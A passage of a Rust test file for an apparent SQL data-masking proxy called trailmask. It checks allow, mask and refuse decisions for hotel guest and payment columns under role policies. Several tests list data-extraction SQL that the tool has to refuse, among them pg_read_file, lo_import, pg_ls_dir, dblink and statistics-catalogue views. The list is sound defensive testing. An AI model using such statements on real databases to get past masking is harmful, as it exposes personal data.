//! Tests of the masking decision: real SQL through the analyser and the resolver, against a
//! small hotel snapshot, with a policy read from TOML through the config checks.

use std::path::Path;

use super::*;
use crate::catalog::resolve::resolve;
use crate::catalog::snapshot::{Column, RelKind, Relation, RoleOid, TypeOid};
use crate::mask::Mask;
use crate::sql::analyze_one;

/// `text`: every column is text, which is all the decision needs.
const TEXT: u32 = 25;

fn rel(
    oid: u32,
    schema: &str,
    name: &str,
    kind: RelKind,
    cols: &[&str],
    def: Option<&str>,
) -> Relation {
    Relation {
        oid: TableOid(oid),
        schema: schema.into(),
        name: name.into(),
        kind,
        columns: cols
            .iter()
            .zip(1i16..)
            .map(|(c, attnum)| Column {
                attnum: AttNum(attnum),
                name: (*c).into(),
                type_oid: TypeOid(TEXT),
            })
            .collect(),
        system_columns: vec![Column {
            attnum: AttNum(-1),
            name: "ctid".into(),
            type_oid: TypeOid(27),
        }],
        view_definition: def.map(Into::into),
        root: None,
    }
}

const GUESTS: u32 = 100;
const PAYMENTS: u32 = 200;
const ROOMS: u32 = 300;
const CONTACTS_VIEW: u32 = 400;
const PHONES_VIEW: u32 = 500;
const OPAQUE_VIEW: u32 = 600;

fn hotel() -> Snapshot {
    Snapshot::new(
        "hotel",
        vec![
            rel(
                GUESTS,
                "public",
                "guests",
                RelKind::Table,
                &[
                    "id",
                    "name",
                    "phone",
                    "email",
                    "national_id",
                    "birthday",
                    "address",
                ],
                None,
            ),
            rel(
                PAYMENTS,
                "public",
                "payments",
                RelKind::Table,
                &["id", "guest_id", "card_number", "amount"],
                None,
            ),
            rel(
                ROOMS,
                "public",
                "rooms",
                RelKind::Table,
                &["number", "floor", "note"],
                None,
            ),
            rel(
                CONTACTS_VIEW,
                "public",
                "guest_contacts",
                RelKind::View,
                &["id", "name", "phone_upper", "email"],
                Some(
                    " SELECT guests.id, guests.name, upper(guests.phone) AS phone_upper, \
                     guests.email FROM public.guests;",
                ),
            ),
            rel(
                PHONES_VIEW,
                "public",
                "guest_phones",
                RelKind::View,
                &["id", "phone"],
                Some(" SELECT guests.id, guests.phone FROM public.guests;"),
            ),
            rel(
                900,
                "pg_catalog",
                "pg_stats",
                RelKind::View,
                &["schemaname", "tablename", "attname", "most_common_vals"],
                None,
            ),
            rel(
                901,
                "pg_catalog",
                "pg_stat_activity",
                RelKind::View,
                &["pid", "query"],
                None,
            ),
            rel(
                902,
                "public",
                "pg_stat_statements",
                RelKind::View,
                &["query"],
                None,
            ),
            rel(
                903,
                "pg_catalog",
                "pg_statistic",
                RelKind::Table,
                &["starelid", "staattnum", "stavalues1"],
                None,
            ),
            rel(
                904,
                "public",
                "column_stats",
                RelKind::View,
                &["starelid", "stavalues1"],
                Some(" SELECT s.starelid, s.stavalues1 FROM pg_catalog.pg_statistic s;"),
            ),
            // A view whose definition the analyser cannot read: its lineage is unknown.
            rel(
                OPAQUE_VIEW,
                "public",
                "opaque_view",
                RelKind::View,
                &["x"],
                Some(" SELEC guests.phone AS x FROM public.guests;"),
            ),
        ],
        vec![(RoleOid(1), "marketing".into())],
        vec![],
    )
    .with_functions(
        [
            "upper",
            "lower",
            "count",
            "length",
            "string_agg",
            "row_to_json",
            "set_config",
            "pg_notify",
            "query_to_xml",
            "lo_import",
            "pg_read_file",
            "now",
            "max",
            "row_number",
            "pg_ls_dir",
            "pg_read_binary_file",
            "pg_stat_get_activity",
            "table_to_xmlschema",
        ]
        .into_iter()
        .map(|f| ("pg_catalog".to_owned(), f.to_owned()))
        .chain([
            ("public".to_owned(), "my_fn".to_owned()),
            ("public".to_owned(), "safe_fn".to_owned()),
            ("public".to_owned(), "dblink".to_owned()),
        ]),
    )
}

const POLICY: &str = r#"
[personal_data."public.guests"]
subject_key = "id"
columns = { name = "name_zh", phone = "phone_tw", email = "email", national_id = "national_id_tw", birthday = "year_only", address = "redact" }

[personal_data."public.payments"]
columns = { card_number = "card_last4" }

[roles.front_desk]
members = ["front_desk"]
clear = ["public.guests.name", "public.guests.phone"]
deny = ["public.payments.card_number"]

[roles.marketing]
members = ["marketing"]
clear = ["public.guests.email"]

[roles.dba]
members = ["dba"]
clear = ["*"]

[roles.auditor]
members = ["auditor"]
clear = ["*"]
deny = ["public.payments.card_number"]
"#;

/// The policy with extra `[policy]` keys.
fn policy(settings: &str) -> Policy {
    let trusted = if settings.contains("trusted_functions") {
        ""
    } else {
        "trusted_functions = [\"public.safe_fn\"]"
    };
    let text = format!("[policy]\n{trusted}\n{settings}\n{POLICY}");
    match crate::config::parse(&text, Path::new("t.toml")) {
        Ok(c) => c.policy,
        Err(e) => panic!("test policy: {e}"),
    }
}

fn path() -> Vec<String> {
    vec!["public".to_owned()]
}

/// Decides `sql` for `login` under the policy with `settings`.
fn decide_with(settings: &str, login: &str, sql: &str) -> Verdict {
    let p = policy(settings);
    let roles = p.role_set([login]);
    let snap = hotel();
    let a = analyze_one(sql);
    let r = resolve(&a, &snap, &path());
    decide(&p, &roles, &a, &r, &snap, &path())
}

fn verdict(login: &str, sql: &str) -> Verdict {
    decide_with("", login, sql)
}

fn masked(login: &str, sql: &str) -> Vec<String> {
    match verdict(login, sql) {
        Verdict::Allow { masked } => masked,
        Verdict::Deny(r) => panic!("{sql}: refused: {}", r.message),
    }
}

#[track_caller]
fn refused(login: &str, sql: &str, want_rule: &str, want_column: Option<&str>) {
    match verdict(login, sql) {
        Verdict::Deny(r) => {
            assert_eq!(r.rule, want_rule, "{sql}: {}", r.message);
            assert_eq!(r.column.as_deref(), want_column, "{sql}: {}", r.message);
            assert!(
                r.message.starts_with(&format!(
                    "trailmask refused this statement: rule {want_rule} — "
                )),
                "{}",
                r.message
            );
            if let Some(c) = want_column {
                assert!(r.message.contains(c), "{}", r.message);
            }
        }
        Verdict::Allow { .. } => panic!("{sql}: allowed for {login}, want {want_rule}"),
    }
}

#[track_caller]
fn allowed(login: &str, sql: &str) {
    if let Verdict::Deny(r) = verdict(login, sql) {
        panic!("{sql}: refused for {login}: {}", r.message);
    }
}

// === allowed shapes ===

#[test]
fn bare_columns_are_allowed_and_listed_as_masked() {
    assert_eq!(
        masked(
            "marketing",
            "SELECT id, phone, email, national_id FROM guests"
        ),
        ["public.guests.national_id", "public.guests.phone"]
    );
    assert_eq!(
        masked("marketing", "SELECT * FROM guests"),
        [
            "public.guests.address",
            "public.guests.birthday",
            "public.guests.name",
            "public.guests.national_id",
            "public.guests.phone",
        ]
    );
    assert_eq!(
        masked("marketing", "SELECT number, floor FROM rooms"),
        Vec::<String>::new()
    );
    assert_eq!(
        masked(
            "marketing",
            "SELECT g.phone AS p, g.phone AS q FROM guests AS g"
        ),
        ["public.guests.phone"]
    );
}

#[test]
fn equality_conditions_on_masked_columns_are_allowed() {
    for sql in [
        "SELECT id FROM guests WHERE phone = $1",
        "SELECT id FROM guests WHERE $1 = phone",
        "SELECT id FROM guests WHERE phone IS NULL",
        "SELECT id FROM guests WHERE national_id IS NOT NULL AND id = 3",
        "SELECT id FROM guests WHERE phone IN ($1, $2)",
        "SELECT g.id FROM guests g JOIN rooms r ON g.phone = $1",
        "UPDATE guests SET phone = $1 WHERE id = $2",
        "DELETE FROM guests WHERE national_id = $1",
    ] {
        allowed("marketing", sql);
    }
    assert_eq!(
        masked("marketing", "SELECT id FROM guests WHERE phone = $1"),
        ["public.guests.phone"]
    );
}

#[test]
fn subqueries_ctes_and_returning_pass_bare_columns_through() {
    for sql in [
        "WITH x AS (SELECT phone FROM guests) SELECT phone FROM x",
        "WITH x AS (SELECT id, phone AS p FROM guests) SELECT x.p FROM x WHERE x.id = $1",
        "SELECT s.p FROM (SELECT phone AS p FROM guests) s",
        "SELECT * FROM (SELECT * FROM guests) s",
        "INSERT INTO guests (id, phone) VALUES ($1, $2) RETURNING id, phone",
        "SELECT id, phone FROM guest_phones",
        "SELECT p.amount, g.phone FROM payments p JOIN guests g ON g.id = p.guest_id",
    ] {
        allowed("marketing", sql);
    }
}

#[test]
fn view_columns_computed_from_masked_columns_are_redacted_not_refused() {
    // SPEC.md: "a view column computed from a masked column is redacted".
    assert_eq!(
        masked("marketing", "SELECT phone_upper FROM guest_contacts"),
        ["public.guests.phone"]
    );
    refused(
        "marketing",
        "SELECT id FROM guest_contacts ORDER BY phone_upper",
        RULE_MASKED_ORDER,
        Some("public.guests.phone"),
    );
}

#[test]
fn a_role_with_everything_clear_is_allowed_everything() {
    for sql in [
        "SELECT upper(phone) FROM guests ORDER BY phone",
        "SELECT g FROM guests g",
        "SELECT row_to_json(g) FROM guests g",
        "DO $$BEGIN PERFORM 1; END$$",
        "SELECT my_fn(phone) FROM guests",
        "SELECT * FROM pg_stats",
        "SELECT query_to_xml($1, true, false, '')",
        "SELECT nosuch FROM guests",
        "SELEC garbage FROM",
        "INSERT INTO rooms (note) SELECT phone FROM guests",
        "SELECT card_number FROM payments",
    ] {
        match verdict("dba", sql) {
            Verdict::Allow { masked } => assert!(masked.is_empty(), "{sql}"),
            Verdict::Deny(r) => panic!("{sql}: {}", r.message),
        }
    }
}

#[test]
fn clear_columns_are_free_for_their_role() {
    // front_desk sees name and phone clear: expressions, ordering and functions are fine.
    for sql in [
        "SELECT upper(phone), name FROM guests ORDER BY name",
        "SELECT id FROM guests WHERE phone LIKE $1",
    ] {
        allowed("front_desk", sql);
    }
    // … but its masked columns follow the rules.
    refused(
        "front_desk",
        "SELECT lower(email) FROM guests",
        RULE_MASKED_EXPRESSION,
        Some("public.guests.email"),
    );
}

// === deny ===

#[test]
fn any_use_of_a_denied_column_is_refused() {
    let col = Some("public.payments.card_number");
    for login in ["front_desk", "auditor"] {
        for sql in [
            "SELECT card_number FROM payments",
            "SELECT * FROM payments",
            "SELECT id FROM payments WHERE card_number = $1",
            "SELECT count(*) FROM payments GROUP BY card_number",
            "UPDATE payments SET card_number = $1 WHERE id = $2",
            "INSERT INTO payments (id, card_number) VALUES ($1, $2)",
            "DELETE FROM payments WHERE id = $1",
        ] {
            refused(login, sql, RULE_DENY_COLUMN, col);
        }
        refused(login, "SELECT p FROM payments p", RULE_DENY_COLUMN, col);
        refused(
            login,
            "SELECT row_to_json(p) FROM payments p",
            RULE_DENY_COLUMN,
            col,
        );
        allowed(login, "SELECT id, amount FROM payments WHERE guest_id = $1");
        allowed(login, "UPDATE payments SET amount = $1 WHERE id = $2");
    }
}

#[test]
fn a_role_with_denied_columns_only_is_held_to_the_fail_closed_rules() {
    refused("auditor", "SELEC garbage FROM", RULE_UNPARSED, None);
    refused(
        "auditor",
        "DO $$BEGIN PERFORM 1; END$$",
        RULE_DO_BLOCK,
        None,
    );
    refused("auditor", "SELECT * FROM pg_stats", RULE_CATALOG_VIEW, None);
    // Its clear columns carry no masking rules.
    allowed(
        "auditor",
        "SELECT upper(phone) FROM guests ORDER BY national_id",
    );
    allowed("auditor", "SELECT g FROM guests g");
    assert_eq!(
        masked("auditor", "SELECT phone FROM guests"),
        Vec::<String>::new()
    );
}

// === what trailmask cannot see through ===

#[test]
fn unparsed_sql_follows_policy_unparsed() {
    refused("marketing", "SELEC phone FROM guests", RULE_UNPARSED, None);
    let v = decide_with(
        "unparsed = \"allow\"",
        "marketing",
        "SELEC phone FROM guests",
    );
    assert!(v.is_allowed(), "{v:?}");
    // The message never echoes the statement.
    let v = verdict("marketing", "SELEC 'A123456789' FROM guests");
    let msg = &v.refusal().map(|r| r.message.clone()).unwrap_or_default();
    assert!(!msg.contains("A123456789"), "{msg}");
    assert!(msg.contains("role marketing"), "{msg}");
}

#[test]
fn do_blocks_are_refused() {
    refused(
        "marketing",
        "DO $$BEGIN PERFORM upper(phone) FROM guests; END$$",
        RULE_DO_BLOCK,
        None,
    );
}

#[test]
fn functions_outside_pg_catalog_must_be_trusted() {
    refused(
        "marketing",
        "SELECT my_fn(id) FROM guests",
        RULE_UNTRUSTED_FUNCTION,
        None,
    );
    refused(
        "marketing",
        "SELECT public.my_fn(1)",
        RULE_UNTRUSTED_FUNCTION,
        None,
    );
    // Unknown to the catalog: not trusted.
    refused(
        "marketing",
        "SELECT nosuch_fn(1)",
        RULE_UNTRUSTED_FUNCTION,
        None,
    );
    // A schema-qualified name the schema does not have is not pg_catalog's either.
    refused(
        "marketing",
        "SELECT public.upper('a')",
        RULE_UNTRUSTED_FUNCTION,
        None,
    );
    allowed("marketing", "SELECT safe_fn(id) FROM guests");
    allowed("marketing", "SELECT upper(note), now() FROM rooms");
    allowed("marketing", "SELECT pg_catalog.upper(note) FROM rooms");
    let v = verdict("marketing", "SELECT my_fn(id) FROM guests");
    let msg = v.refusal().map(|r| r.message.as_str()).unwrap_or_default();
    assert!(msg.contains("public.my_fn"), "{msg}");
}

#[test]
fn out_of_band_built_ins_are_refused() {
    for sql in [
        "SELECT query_to_xml($1, true, false, '')",
        "SELECT table_to_xmlschema('guests', true, false, '')",
        "SELECT lo_import($1)",
        "SELECT pg_read_file($1)",
        "SELECT pg_read_binary_file($1)",
        "SELECT * FROM pg_ls_dir('.')",
        "SELECT * FROM pg_stat_get_activity(NULL)",
        // Even when listed as trusted elsewhere, dblink stays refused.
        "SELECT * FROM dblink($1, $2) AS t(x text)",
    ] {
        refused("marketing", sql, RULE_OUT_OF_BAND_FUNCTION, None);
    }
    let v = decide_with(
        "trusted_functions = [\"public.dblink\"]",
        "marketing",
        "SELECT * FROM dblink($1, $2) AS t(x text)",
    );
    assert_eq!(v.rule(), Some(RULE_OUT_OF_BAND_FUNCTION));
}

#[test]
fn catalog_views_exposing_data_are_refused() {
    for sql in [
        "SELECT * FROM pg_stats",
        "SELECT most_common_vals FROM pg_catalog.pg_stats WHERE attname = $1",
        "SELECT query FROM pg_stat_activity",
        "SELECT * FROM pg_statistic",
        "SELECT query FROM pg_stat_statements",
        "SELECT query FROM public.pg_stat_statements",
        // A view over one.
        "SELECT stavalues1 FROM column_stats",
    ] {
        refused("marketing", sql, RULE_CATALOG_VIEW, None);
    }
}

#[test]
fn unresolved_names_fail_closed_where_personal_data_may_be() {
    refused(
        "marketing",
        "SELECT nosuch FROM guests",
        RULE_UNRESOLVED,
        None,
    );
    refused(
        "marketing",
        "SELECT g.nosuch, g.phone FROM guests g",
        RULE_UNRESOLVED,
        None,
    );
    // A relation named like a personal table the snapshot does not know.
    refused(
        "marketing",
        "SELECT * FROM other.guests",
        RULE_UNRESOLVED,
        None,
    );
    // Unknown names where no personal table is involved: PostgreSQL will answer.
    allowed("marketing", "SELECT nosuch FROM rooms");
    // A relation the snapshot does not know may be a view over a personal table made since.
    refused(
        "marketing",
        "SELECT x FROM temp_things",
        RULE_UNRESOLVED,
        None,
    );
    // A new table or an unknown temporary table as the write target is no reason to refuse …
    allowed("marketing", "CREATE TABLE t AS SELECT id FROM guests");
    allowed(
        "marketing",
        "INSERT INTO tmp_ids (id) SELECT id FROM guests",
    );
    // … unless it is named like a personal table.
    refused(
        "marketing",
        "UPDATE other.guests SET note = $1 WHERE phone LIKE $2",
        RULE_UNRESOLVED,
        None,
    );
    // front_desk sees payments.card_number denied; an unknown column of payments fails closed.
    refused(
        "front_desk",
        "SELECT nosuch FROM payments",
        RULE_UNRESOLVED,
        None,
    );
}

#[test]
fn views_of_unknown_lineage_fail_closed() {
    refused(
        "marketing",
        "SELECT x FROM opaque_view",
        RULE_UNRESOLVED,
        None,
    );
    refused(
        "marketing",
        "SELECT upper(x) FROM opaque_view",
        RULE_UNRESOLVED,
        None,
    );
    allowed("marketing", "SELECT count(*) FROM opaque_view");
    // Its fields are redacted even in a statement that touches no personal table.
    let p = policy("");
    let m = p.role_set(["marketing"]);
    let origin = (TableOid(OPAQUE_VIEW), AttNum(1));
    assert_eq!(
        field_action(&m, &hotel(), origin, None, false),
        FieldAction::Redact
    );
    // A set operation over a non-personal table is not a reason to refuse.
    allowed(
        "marketing",
        "SELECT * FROM (SELECT * FROM rooms UNION SELECT * FROM rooms) s WHERE note = $1",
    );
}

// === masked columns by context ===

#[test]
fn masked_columns_in_other_conditions_follow_masked_predicates() {
    let col = Some("public.guests.phone");
    for sql in [
        "SELECT id FROM guests WHERE phone LIKE $1",
        "SELECT id FROM guests WHERE phone > $1",
        "SELECT id FROM guests WHERE upper(phone) = $1",
        "SELECT g.id FROM guests g JOIN payments p ON p.guest_id::text = g.phone",
        "SELECT count(*) FROM guests HAVING max(phone) = $1",
    ] {
        match verdict("marketing", sql) {
            Verdict::Deny(r) => {
                assert!(
                    r.rule == RULE_MASKED_PREDICATE || r.rule == RULE_MASKED_EXPRESSION,
                    "{sql}: {}",
                    r.message
                );
                assert_eq!(r.column.as_deref(), col, "{sql}");
            }
            Verdict::Allow { .. } => panic!("{sql}: allowed"),
        }
    }
    refused(
        "marketing",
        "SELECT id FROM guests WHERE phone LIKE $1",
        RULE_MASKED_PREDICATE,
        col,
    );
    let allow = "masked_predicates = \"allow\"";
    let v = decide_with(
        allow,
        "marketing",
        "SELECT id FROM guests WHERE phone LIKE $1",
    );
    assert!(v.is_allowed(), "{v:?}");
    let deny = "masked_predicates = \"deny\"";
    let v = decide_with(deny, "marketing", "SELECT id FROM guests WHERE phone = $1");
    assert_eq!(v.rule(), Some(RULE_MASKED_PREDICATE));
    let v = decide_with(
        deny,
        "marketing",
        "SELECT id FROM guests WHERE phone IS NULL",
    );
    assert_eq!(v.rule(), Some(RULE_MASKED_PREDICATE));
    let v = decide_with(deny, "marketing", "SELECT phone FROM guests WHERE id = $1");
    assert!(v.is_allowed(), "{v:?}");
}

#[test]
fn masked_columns_may_not_order_or_group() {
    let col = Some("public.guests.phone");
    for sql in [
        "SELECT id FROM guests ORDER BY phone",
        "SELECT phone FROM guests ORDER BY phone DESC",
        "SELECT count(*) FROM guests GROUP BY phone",
        "SELECT DISTINCT ON (phone) id FROM guests",
        "SELECT id, row_number() OVER (PARTITION BY phone) FROM guests",
        "SELECT p FROM (SELECT phone AS p FROM guests) s ORDER BY p",
    ] {
        refused("marketing", sql, RULE_MASKED_ORDER, col);
    }
    let v = decide_with(
        "masked_predicates = \"allow\"",
        "marketing",
        "SELECT id FROM guests ORDER BY phone",
    );
    assert!(v.is_allowed(), "{v:?}");
}

#[test]
fn masked_columns_may_not_be_computed_on() {
    for (sql, col) in [
        ("SELECT upper(phone) FROM guests", "public.guests.phone"),
        (
            "SELECT phone::bigint + 1 FROM guests",
            "public.guests.phone",
        ),
        (
            "SELECT national_id LIKE 'A1%' FROM guests",
            "public.guests.national_id",
        ),
        (
            "SELECT string_agg(phone, ',') FROM guests",
            "public.guests.phone",
        ),
        (
            "SELECT CASE WHEN phone = $1 THEN 1 END FROM guests",
            "public.guests.phone",
        ),
        (
            "SELECT length(address) FROM guests",
            "public.guests.address",
        ),
        (
            "WITH x AS (SELECT upper(phone) p FROM guests) SELECT p FROM x",
            "public.guests.phone",
        ),
        (
            "SELECT id FROM guests UNION SELECT phone FROM guests",
            "public.guests.phone",
        ),
    ] {
        refused("marketing", sql, RULE_MASKED_EXPRESSION, Some(col));
    }
    let v = verdict("marketing", "SELECT upper(phone) FROM guests");
    let msg = v.refusal().map(|r| r.message.as_str()).unwrap_or_default();
    assert_eq!(
        msg,
        "trailmask refused this statement: rule masked_expression — column public.guests.phone \
         is masked for role marketing and may only be selected bare or compared with \"=\" (see \
         policy.masked_predicates)"
    );
}

#[test]
fn masked_columns_may_not_be_written_elsewhere() {
    let col = Some("public.guests.phone");
    for sql in [
        "INSERT INTO rooms (note) SELECT phone FROM guests",
        "CREATE TABLE t AS SELECT phone FROM guests",
        "UPDATE rooms SET note = g.phone FROM guests g WHERE g.id = $1",
        "COPY (SELECT phone FROM guests) TO STDOUT",
    ] {
        refused("marketing", sql, RULE_MASKED_WRITE, col);
    }
}

#[test]
fn masked_columns_may_not_feed_side_effects() {
    let col = Some("public.guests.phone");
    for sql in [
        "SELECT set_config('x.y', phone, false) FROM guests",
        "SELECT pg_notify('c', phone) FROM guests",
    ] {
        refused("marketing", sql, RULE_MASKED_SIDE_EFFECT, col);
    }
}

#[test]
fn whole_rows_of_tables_with_masked_columns_are_refused() {
    for sql in [
        "SELECT g FROM guests g",
        "SELECT row_to_json(g) FROM guests g",
        "SELECT g::text FROM guests g",
        "SELECT id FROM guests g WHERE g IS NOT NULL",
    ] {
        match verdict("marketing", sql) {
            Verdict::Deny(r) => {
                assert_eq!(r.rule, RULE_WHOLE_ROW, "{sql}: {}", r.message);
                assert!(
                    r.column.is_some_and(|c| c.starts_with("public.guests.")),
                    "{sql}"
                );
            }
            Verdict::Allow { .. } => panic!("{sql}: allowed"),
        }
    }
    // A whole row of a table without personal columns is fine.
    allowed("marketing", "SELECT r FROM rooms r");
}

#[test]
fn rules_lists_every_rule_once() {
    let mut r = RULES.to_vec();
    r.sort_unstable();
    r.dedup();
    assert_eq!(r.len(), RULES.len());
    assert_eq!(RULES.len(), 16);
}

// === touches_personal and field_action ===

fn resolved(sql: &str) -> Resolved {
    let a = analyze_one(sql);
    resolve(&a, &hotel(), &path())
}

#[test]
fn touches_personal_sees_reads_and_writes() {
    let p = policy("");
    let roles = p.role_set(["marketing"]);
    assert!(touches_personal(&roles, &resolved("SELECT id FROM guests")));
    assert!(touches_personal(
        &roles,
        &resolved("SELECT count(*) FROM payments")
    ));
    assert!(touches_personal(
        &roles,
        &resolved("UPDATE guests SET phone = $1")
    ));
    assert!(touches_personal(
        &roles,
        &resolved("SELECT id FROM guest_phones")
    ));
    assert!(!touches_personal(
        &roles,
        &resolved("SELECT number FROM rooms")
    ));
    assert!(!touches_personal(&roles, &resolved("SELECT 1")));
}

#[test]
fn field_action_uses_the_row_description_origin_first() {
    let p = policy("");
    let m = p.role_set(["marketing"]);
    let snap = hotel();
    let f = |oid: u32, att: i16, out: Option<&ResolvedLineage>, touches: bool| {
        field_action(&m, &snap, (TableOid(oid), AttNum(att)), out, touches)
    };
    // guests.phone (attnum 3) masked, guests.email (4) clear, guests.id (1) not personal.
    assert_eq!(f(GUESTS, 3, None, true), FieldAction::Mask(Mask::PhoneTw));
    assert_eq!(f(GUESTS, 4, None, true), FieldAction::Pass);
    assert_eq!(f(GUESTS, 1, None, true), FieldAction::Pass);
    assert_eq!(f(ROOMS, 1, None, false), FieldAction::Pass);
    // A view column: bare through the view is masked; computed from phone is redacted.
    assert_eq!(
        f(PHONES_VIEW, 2, None, true),
        FieldAction::Mask(Mask::PhoneTw)
    );
    assert_eq!(f(CONTACTS_VIEW, 3, None, true), FieldAction::Redact);
    assert_eq!(f(CONTACTS_VIEW, 1, None, true), FieldAction::Pass);
    // A whole-row field of guests (attnum 0).
    assert_eq!(f(GUESTS, 0, None, true), FieldAction::Redact);
    assert_eq!(f(ROOMS, 0, None, false), FieldAction::Pass);
    // The origin wins over the analysis' output.
    let r = resolved("SELECT phone FROM guests");
    let out = r.outputs.first().map(|o| &o.lineage);
    assert_eq!(f(GUESTS, 1, out, true), FieldAction::Pass);
    // A denied column is redacted.
    let fd = p.role_set(["front_desk"]);
    assert_eq!(
        field_action(&fd, &snap, (TableOid(PAYMENTS), AttNum(3)), None, true),
        FieldAction::Redact
    );
}

#[test]
fn field_action_falls_back_on_the_output_lineage() {
    let p = policy("");
    let m = p.role_set(["marketing"]);
    let snap = hotel();
    let zero = (TableOid(0), AttNum(0));
    let outputs = |sql: &str| {
        resolved(sql)
            .outputs
            .into_iter()
            .map(|o| o.lineage)
            .collect::<Vec<_>>()
    };
    let o = outputs("SELECT phone, email, id, upper(email), 1 FROM guests");
    let actions: Vec<FieldAction> = o
        .iter()
        .map(|l| field_action(&m, &snap, zero, Some(l), true))
        .collect();
    assert_eq!(
        actions,
        [
            FieldAction::Mask(Mask::PhoneTw),
            FieldAction::Pass,
            FieldAction::Pass,
            FieldAction::Pass,
            FieldAction::Pass,
        ]
    );
    let derived = ResolvedLineage::Derived {
        columns: resolved("SELECT phone FROM guests")
            .uses
            .into_iter()
            .map(|u| u.column)
            .collect(),
        rows: Vec::new(),
    };
    assert_eq!(
        field_action(&m, &snap, zero, Some(&derived), true),
        FieldAction::Redact
    );
    let unknown = ResolvedLineage::Unknown;
    assert_eq!(
        field_action(&m, &snap, zero, Some(&unknown), true),
        FieldAction::Redact
    );
    assert_eq!(
        field_action(&m, &snap, zero, Some(&unknown), false),
        FieldAction::Pass
    );
    assert_eq!(
        field_action(&m, &snap, zero, None, true),
        FieldAction::Redact
    );
    assert_eq!(
        field_action(&m, &snap, zero, None, false),
        FieldAction::Pass
    );
    // An origin the snapshot does not know is redacted, whatever the analysis says.
    let id = resolved("SELECT id FROM rooms").outputs.remove(0).lineage;
    assert_eq!(
        field_action(&m, &snap, (TableOid(12345), AttNum(1)), Some(&id), false),
        FieldAction::Redact
    );
    // An unknown column of a known table: redacted only if the table has protected columns.
    assert_eq!(
        field_action(&m, &snap, (TableOid(ROOMS), AttNum(9)), None, false),
        FieldAction::Pass
    );
    assert_eq!(
        field_action(&m, &snap, (TableOid(GUESTS), AttNum(9)), None, true),
        FieldAction::Redact
    );
    // A role with everything clear passes everything.
    let dba = p.role_set(["dba"]);
    assert_eq!(
        field_action(&dba, &snap, zero, None, true),
        FieldAction::Pass
    );
    assert_eq!(
        field_action(&dba, &snap, (TableOid(GUESTS), AttNum(3)), None, true),
        FieldAction::Pass
    );
}

#[test]
fn ordinary_application_traffic_is_allowed() {
    for sql in [
        "BEGIN",
        "SET search_path TO public",
        "SHOW search_path",
        "SELECT 1",
        "SELECT now()",
        "SELECT count(*) FROM guests",
        "SELECT id, phone FROM guests WHERE id = $1 LIMIT 1",
        "SELECT g.id, p.amount FROM guests g LEFT JOIN payments p ON p.guest_id = g.id \
         WHERE g.phone = $1",
        "SELECT id FROM guests WHERE phone = ANY($1)",
        "SELECT id FROM guests WHERE phone = $1 OR phone = $2",
        "SELECT id FROM guests WHERE EXISTS (SELECT 1 FROM payments p WHERE p.guest_id = guests.id)",
        "SELECT phone FROM guests LIMIT 1 OFFSET 3",
        "SELECT phone FROM guests FOR UPDATE",
        "DECLARE c CURSOR FOR SELECT phone FROM guests",
        "FETCH 10 FROM c",
        "PREPARE s AS SELECT phone FROM guests WHERE id = $1",
        "EXECUTE s(1)",
        "COPY guests (id, phone) FROM STDIN",
        "TRUNCATE rooms",
        "COMMIT",
    ] {
        allowed("marketing", sql);
    }
}

#[test]
fn comparisons_between_columns_or_against_subqueries_are_not_equality() {
    for sql in [
        "SELECT id FROM guests WHERE phone = (SELECT phone FROM guests WHERE id = 1)",
        "SELECT a.id FROM guests a JOIN guests b ON a.phone = b.phone",
        "SELECT id FROM guests WHERE phone = email",
        "SELECT id FROM guests WHERE phone <> $1",
    ] {
        refused(
            "marketing",
            sql,
            RULE_MASKED_PREDICATE,
            Some("public.guests.phone"),
        );
    }
    refused(
        "marketing",
        "SELECT id, (SELECT phone FROM guests g2 WHERE g2.id = g.id) FROM guests g",
        RULE_MASKED_EXPRESSION,
        Some("public.guests.phone"),
    );
}

#[test]
fn field_actions_line_outputs_up_with_fields() {
    let p = policy("");
    let m = p.role_set(["marketing"]);
    let snap = hotel();
    let zero = (TableOid(0), AttNum(0));
    let actions = |sql: &str, origins: &[(TableOid, AttNum)]| {
        let a = analyze_one(sql);
        let r = resolve(&a, &snap, &path());
        field_actions(&m, &snap, &a, &r, origins)
    };
    // The server gave origins for the columns and 0 for the constant.
    assert_eq!(
        actions(
            "SELECT phone, email, 1 FROM guests",
            &[
                (TableOid(GUESTS), AttNum(3)),
                (TableOid(GUESTS), AttNum(4)),
                zero
            ]
        ),
        [
            FieldAction::Mask(Mask::PhoneTw),
            FieldAction::Pass,
            FieldAction::Pass
        ]
    );
    // Without origins, the outputs decide when they line up …
    assert_eq!(
        actions("SELECT phone, id FROM guests", &[zero, zero]),
        [FieldAction::Mask(Mask::PhoneTw), FieldAction::Pass]
    );
    // … and a count mismatch redacts what touches personal data.
    assert_eq!(
        actions("SELECT phone, id FROM guests", &[zero, zero, zero]),
        [FieldAction::Redact; 3]
    );
    assert_eq!(
        actions("SELECT number FROM rooms", &[zero, zero]),
        [FieldAction::Pass; 2]
    );
    // Unreadable SQL (allowed by policy.unparsed = "allow") counts as touching personal data.
    assert_eq!(
        actions("SELEC phone FROM guests", &[zero]),
        [FieldAction::Redact]
    );
    // The dba path.
    let dba = p.role_set(["dba"]);
    let a = analyze_one("SELEC phone FROM guests");
    let r = resolve(&a, &snap, &path());
    assert_eq!(
        field_actions(&dba, &snap, &a, &r, &[zero]),
        [FieldAction::Pass]
    );
}

// === the invariant, over generated statements ===

/// SELECT-list items over `guests g` (and a subquery `s` of it), masked and clear, bare and not.
const ITEMS: &[&str] = &[
    "g.id",
    "g.phone",
    "g.email",
    "g.national_id AS n",
    "upper(g.phone)",
    "g.phone || 'x'",
    "length(g.email)",
    "g",
    "row_to_json(g)",
    "1",
    "$1",
    "(SELECT s.phone FROM guests s WHERE s.id = g.id)",
    "CASE WHEN g.phone = $2 THEN 1 END",
    "count(*) OVER ()",
    "g.*",
];

const CONDITIONS: &[&str] = &[
    "",
    " WHERE g.id = $3",
    " WHERE g.phone = $3",
    " WHERE g.phone LIKE $3",
    " WHERE g.phone IS NULL",
    " WHERE g.email > $3",
    " WHERE g.phone = g.email",
    " ORDER BY g.phone",
    " ORDER BY g.id",
];

const SHAPES: &[&str] = &[
    "SELECT {items} FROM guests g{cond}",
    "WITH w AS (SELECT {items} FROM guests g{cond}) SELECT * FROM w",
    "SELECT * FROM (SELECT {items} FROM guests g{cond}) q",
];

/// Whether a value of this lineage carries a column marketing sees masked.
fn carries_masked(roles: &RoleSet, l: &ResolvedLineage) -> bool {
    match l {
        ResolvedLineage::Bare(c) => matches!(access(roles, c), Some(ColumnAccess::Masked(_))),
        ResolvedLineage::Derived { columns, rows } => {
            columns
                .iter()
                .any(|c| matches!(access(roles, c), Some(ColumnAccess::Masked(_))))
                || rows
                    .iter()
